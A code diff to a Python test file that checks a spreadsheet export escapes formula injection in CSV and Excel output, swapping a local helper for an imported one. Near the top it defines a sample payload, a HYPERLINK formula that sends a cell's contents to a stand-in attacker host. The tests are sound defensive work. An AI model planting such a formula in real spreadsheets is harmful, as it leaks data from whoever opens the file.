@@ -12,6 +12,7 @@ import pytest
 from openpyxl import load_workbook
 
 from gridcare.core.paging import export_response, export_row, export_text
+from gridcare.core.testing import streamed
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
 
@@ -41,19 +42,15 @@ def test_numbers_and_dates_are_left_as_they_are() -> None:
     ]
 
 
-def _body(response: object) -> bytes:
-    return b"".join(response.streaming_content)  # type: ignore[attr-defined]
-
-
 def test_the_csv_export_writes_the_evil_name_as_text() -> None:
     response = export_response(["户名", "金额"], [[EVIL, Decimal("486.08")]], name="t", fmt="csv")
-    rows = list(csv.reader(io.StringIO(_body(response).decode("utf-8-sig"))))
+    rows = list(csv.reader(io.StringIO(streamed(response).decode("utf-8-sig"))))
     assert rows == [["户名", "金额"], ["'" + EVIL, "486.08"]]
 
 
 def test_the_excel_export_holds_no_formula() -> None:
     response = export_response(["户名", "金额"], [[EVIL, Decimal("486.08")]], name="t", fmt="xlsx")
-    sheet = load_workbook(io.BytesIO(_body(response))).active
+    sheet = load_workbook(io.BytesIO(streamed(response))).active
     assert sheet is not None
     cell = sheet["A2"]
     assert cell.data_type == "s"
